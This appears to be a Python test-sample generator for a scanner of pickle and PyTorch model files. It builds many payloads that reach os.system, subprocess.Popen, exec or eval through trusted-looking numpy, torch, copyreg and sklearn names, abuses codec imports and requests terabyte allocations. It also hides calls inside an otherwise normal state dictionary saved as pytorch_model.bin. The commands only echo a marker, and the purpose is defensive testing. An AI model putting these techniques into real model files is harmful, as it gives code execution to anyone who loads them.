"""Names that honest files use, called with arguments that honest files never give (B6 and new ones)."""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Any

from . import opcodes as op
from .boxes import boxed, torch_zip
from .opcodes import Raw, call, name
from .sample import Sample, technique

ECHO = "echo assaymark"
SYSTEM = Raw(name("os.system"))
_SOURCE = "import os\nos.system('echo assaymark')\n"


def _spread(bodies: dict[str, bytes], rng: random.Random, **more: Any) -> Iterator[Sample]:
    for note, body in bodies.items():
        for protocol in (2, 4):
            file, data = boxed(op.stream(op.wrap(body, rng), protocol), rng)
            yield Sample(file, data, note=note, **more)


@technique("B6", "text-for-a-container")
def _source(rng: random.Random) -> Iterator[Sample]:
    """Source text handed to a listed name, which a module beside the file has replaced (ShadowPickle's form)."""
    for dotted in (
        "collections.OrderedDict", "collections.defaultdict", "collections.deque", "torch._utils._rebuild_tensor_v2",
        "torch._utils._rebuild_parameter", "torch.FloatStorage", "numpy.ndarray", "numpy.dtype",
        "numpy.core.multiarray._reconstruct", "numpy._core.multiarray._reconstruct", "numpy.core.multiarray.scalar",
        "copyreg._reconstructor", "sklearn.linear_model._logistic.LogisticRegression", "joblib.numpy_pickle.NumpyArrayWrapper",
        "sklearn.tree._tree.Tree", "torch.nn.modules.linear.Linear", "pandas.core.internals.managers.BlockManager",
    ):  # fmt: skip
        for text in (_SOURCE, "__import__('os').system('echo assaymark')"):
            file, data = boxed(
                op.stream(op.value({"state": Raw(call(name(dotted), text))}), rng.choice((2, 4))), rng
            )
            yield Sample(file, data, unknown=True, note=dotted)


@technique("B6", "constructor-of-anything")
def _constructor(rng: random.Random) -> Iterator[Sample]:
    popen = Raw(name("subprocess.Popen"))
    foreign = Raw(name("evil_models.run.Trigger"))
    thing, zero = Raw(name("builtins.object")), (0,)
    yield from _spread(
        {
            "reconstruct of a process": call(name("numpy.core.multiarray._reconstruct"), popen, zero, b"b"),
            "reconstructor of a process": call(name("copyreg._reconstructor"), popen, thing, None),
            "newobj": call(name("copyreg.__newobj__"), popen, ECHO),
            "newobj_ex": call(name("copyreg.__newobj_ex__"), popen, (ECHO,), {"shell": True}),
            "tensor of a type": call(name("torch._tensor._rebuild_from_type_v2"), SYSTEM, popen, (ECHO,), None),
            "tensor of a type, old": call(name("torch._tensor._rebuild_from_type"), SYSTEM, popen, (ECHO,), {}),
            "wrapper subclass": call(name("torch._utils._rebuild_wrapper_subclass"), popen, None, (1,), (1,), 0, None, "cpu", False),
            "parameter with state": call(name("torch._utils._rebuild_parameter_with_state"), None, False, {}, SYSTEM),
            "node of a graph": call(name("torch.fx.graph_module.reduce_graph_module"), {"_code": _SOURCE}, ""),
            "memory map": call(name("numpy.core.memmap"), "/tmp/assaymark"),
            "bit generator": call(name("numpy.random._pickle.__generator_ctor"), SYSTEM),
            "set type": call(name("torch._utils._set_obj_state"), Raw(name("numpy.prod")), {"a": 1}),
            "scorer of a call": call(name("sklearn.metrics._scorer._Scorer"), SYSTEM, 1, {}),
            "pandas unpickle": call(name("pandas._libs.internals._unpickle_block"), SYSTEM, 1, 2),
            "method": call(name("operator.methodcaller"), "system", ECHO),
            "enumeration": call(name("enum.Enum"), "X", _SOURCE),
            "default dictionary of exec": call(name("collections.defaultdict"), Raw(name("builtins.exec"))),
            "dtype of a callable": call(name("numpy.dtype"), SYSTEM),
        },
        rng,
    )  # fmt: skip
    yield from _spread(
        {
            "reconstruct of the foreign": call(name("numpy.core.multiarray._reconstruct"), foreign, zero, b"b"),
            "reconstructor of the foreign": call(name("copyreg._reconstructor"), foreign, thing, None),
            "reconstructor with foreign base": call(name("copyreg._reconstructor"), Raw(name("collections.OrderedDict")), foreign, [1]),
            "default dictionary of the foreign": call(name("collections.defaultdict"), foreign),
            "joblib wrapper of the foreign": op.build(
                name("joblib.numpy_pickle.NumpyArrayWrapper") + op.EMPTY_TUPLE + op.NEWOBJ,
                {"subclass": foreign, "shape": (0,), "order": "C", "dtype": None, "allow_mmap": True},
            ),
            "newobj of the foreign": foreign.code + op.EMPTY_TUPLE + op.NEWOBJ,
            "state of the foreign": op.build(foreign.code + op.EMPTY_TUPLE + op.NEWOBJ, {"a": 1}),
        },
        rng,
        unknown=True,
    )  # fmt: skip


@technique("N6", "codec-import")
def _codec(rng: random.Random) -> Iterator[Sample]:
    """New: the name of an encoding is the name of a module to import, or a decoder to hide behind."""
    yield from _spread(
        {
            "encode": call(name("_codecs.encode"), "x", "evil_models_codec"),
            "str": call(name("builtins.str"), b"x", "evil_models_codec"),
            "bytes": call(name("builtins.bytes"), "x", "evil_models_codec"),
            "bytearray": call(name("builtins.bytearray"), "x", "evil_models_codec"),
            "lookup": call(name("_codecs.lookup"), "evil_models_codec"),
            "decode": call(name("_codecs.decode"), b"x", "evil_models_codec"),
        },
        rng,
        unknown=True,
    )


@technique("N7", "exhaust")
def _exhaust(rng: random.Random) -> Iterator[Sample]:
    """New: harmless types asked for a terabyte."""
    many = 10**12
    yield from _spread(
        {
            "bytearray": call(name("builtins.bytearray"), many),
            "list of range": call(name("builtins.list"), Raw(call(name("builtins.range"), many))),
            "array": call(name("numpy.zeros"), many),
            "reconstruct": call(
                name("numpy.core.multiarray._reconstruct"), Raw(name("numpy.ndarray")), (many,), b"b"
            ),
            "power": call(name("operator.pow"), 10, many),
            "repeat": call(name("operator.mul"), "assaymark", many),
            "set of range": call(name("builtins.set"), Raw(call(name("builtins.range"), many))),
        },
        rng,
        unknown=True,
    )


@technique("N8", "numpy-object-array")
def _objects(rng: random.Random) -> Iterator[Sample]:
    """An array of objects whose list of elements holds the call, in the shape that numpy writes."""
    for module in ("numpy.core.multiarray", "numpy._core.multiarray"):
        made = call(name(f"{module}._reconstruct"), Raw(name("numpy.ndarray")), (0,), b"b")
        dtype = op.build(call(name("numpy.dtype"), "O8", False, True), (3, "|", None, None, None, -1, -1, 63))
        for inner in (
            call(name("os.system"), ECHO),
            name("builtins.eval"),
            call(name("builtins.getattr"), 1, "x"),
        ):
            body = op.build(made, (1, (1,), Raw(dtype), False, [Raw(inner)]))
            file, data = boxed(op.stream(body, rng.choice((2, 3, 4))), rng)
            yield Sample(file, data, note=module)


@technique("N9", "inside-a-state-dictionary")
def _inside(rng: random.Random) -> Iterator[Sample]:
    """The call sits in a state dictionary that is otherwise exactly what `torch.save` writes."""

    def tensor(extra: Any = ()) -> bytes:
        storage = op.value(("storage", Raw(name("torch.FloatStorage")), "0", "cpu", 16)) + op.BINPERSID
        hooks = Raw(call(name("collections.OrderedDict"), *extra))
        return call(name("torch._utils._rebuild_tensor_v2"), Raw(storage), 0, (4, 4), (4, 1), False, hooks)

    payload = Raw(call(name("posix.system"), ECHO))
    forms: dict[str, bytes] = {
        "value": op.value({"w": Raw(tensor()), "b": payload}),
        "hook": op.value({"w": Raw(tensor(([(0, SYSTEM)],)))}),
        "hook called": op.value({"w": Raw(tensor(([(0, payload)],)))}),
        "key": op.value({payload: Raw(tensor())}),
        "metadata": op.build(call(name("collections.OrderedDict")), {"_metadata": payload}),
        "metadata reference": op.build(
            call(name("collections.OrderedDict")), {"_metadata": {"": {"version": SYSTEM}}}
        ),
        "requires grad": call(name("torch._utils._rebuild_parameter"), Raw(tensor()), payload, {}),
        "size": call(name("torch._utils._rebuild_tensor_v2"), payload, 0, (1,), (1,), False, {}),
        "popped first": payload.code + op.POP + op.value({"w": Raw(tensor())}),
        "popped last": op.value({"w": Raw(tensor())}) + payload.code + op.POP,
    }
    for note, body in forms.items():
        for folder in ("archive", "model"):
            yield Sample("pytorch_model.bin", torch_zip(op.stream(body, 2), folder), note=note)
